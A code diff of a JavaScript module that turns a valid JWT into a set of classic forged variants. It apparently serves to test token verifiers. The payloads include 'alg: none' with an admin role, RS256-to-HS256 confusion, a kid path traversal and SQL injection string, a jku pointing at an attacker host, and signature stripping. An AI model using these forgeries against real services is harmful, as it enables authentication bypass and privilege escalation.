@@ -1,7 +1,6 @@
 // The classic attacks on a JWT, each as a change of the token at hand.
 
 import { encode, encodeJson, encodeText, parse } from "./jws.js";
-import { hmac } from "./keys.js";
 
 const join = (...segments) => segments.join(".");
 
@@ -45,22 +44,28 @@ function bent(parsed) {
   return join(parsed.segments[0], parsed.segments[1], last.slice(0, -6) + other + last.slice(-5));
 }
 
-/** Every attack: its name, what it hopes for, and the change. */
-export const ATTACKS = [
-  { id: "none", name: "alg: none", hope: "a verifier that lets the token say it needs no seal", forge: (parsed) => join(encodeJson({ ...parsed.header.value, alg: "none" }), encodeJson({ ...parsed.payload.value, role: "admin" }), "") },
-  { id: "confusion", name: "RS256 → HS256", hope: "a verifier that takes the public key for a shared secret because the header says HMAC", forge: confuse },
-  { id: "kid-path", name: "kid: ../../dev/null", hope: "a verifier that opens the file a kid names, and finds an empty key in it", forge: (parsed) => withHeader(parsed, { kid: "../../../../dev/null" }) },
-  { id: "kid-sql", name: "kid: ' OR 1=1", hope: "a verifier that builds a query out of the kid", forge: (parsed) => withHeader(parsed, { kid: "x' OR '1'='1" }) },
-  { id: "own-key", name: "Bring my own key", hope: "a verifier that believes the key in the header (jwk)", forge: ownKey },
-  { id: "far-key", name: "Point at my key", hope: "a verifier that fetches the key from wherever the header says (jku)", forge: (parsed) => withHeader(parsed, { jku: "https://evil.example/keys.json" }) },
-  { id: "promote", name: "role: admin", hope: "a verifier that reads the payload and forgets the seal", forge: (parsed) => withPayload(parsed, { role: "admin" }) },
-  { id: "prolong", name: "exp: next year", hope: "a pass that never runs out", forge: (parsed) => withPayload(parsed, { exp: parsed.payload.value.exp + 31536000 }) },
-  { id: "strip", name: "Tear the seal off", hope: "a verifier that checks a signature only where there is one", forge: (parsed) => join(parsed.segments[0], parsed.segments[1], "") },
-  { id: "bend", name: "Bend the seal", hope: "luck", forge: bent },
-  { id: "twice", name: "role twice", hope: "two readers that disagree about which role counts", forge: duplicated },
-  { id: "pad", name: "Add padding", hope: "a second spelling of one token, which a list of refused tokens does not know", forge: (parsed) => `${parsed.token}=` },
-  { id: "crit", name: "crit: unheard-of", hope: "a verifier that skips what it does not understand", forge: (parsed) => withHeader(parsed, { crit: ["exp"] }) },
-];
+/** An HMAC-SHA-256 over text, under a key of any bytes. */
+async function hmac(keyBytes, text) {
+  const key = await crypto.subtle.importKey("raw", keyBytes, { name: "HMAC", hash: "SHA-256" }, false, ["sign"]);
+  return new Uint8Array(await crypto.subtle.sign("HMAC", key, new TextEncoder().encode(text)));
+}
+
+/** How each attack changes a token. */
+const FORGE = {
+  none: (parsed) => join(encodeJson({ ...parsed.header.value, alg: "none" }), encodeJson({ ...parsed.payload.value, role: "admin" }), ""),
+  confusion: confuse,
+  "kid-path": (parsed) => withHeader(parsed, { kid: "../../../../dev/null" }),
+  "kid-sql": (parsed) => withHeader(parsed, { kid: "x' OR '1'='1" }),
+  "own-key": ownKey,
+  "far-key": (parsed) => withHeader(parsed, { jku: "https://evil.example/keys.json" }),
+  promote: (parsed) => withPayload(parsed, { role: "admin" }),
+  prolong: (parsed) => withPayload(parsed, { exp: parsed.payload.value.exp + 31536000 }),
+  strip: (parsed) => join(parsed.segments[0], parsed.segments[1], ""),
+  bend: bent,
+  twice: duplicated,
+  pad: (parsed) => `${parsed.token}=`,
+  crit: (parsed) => withHeader(parsed, { crit: ["exp"] }),
+};
 
 /** Forges, from a good token. */
-export const forge = (attack, token, jwks) => attack.forge(parse(token), jwks);
+export const forge = (attack, token, jwks) => FORGE[attack.id](parse(token), jwks);
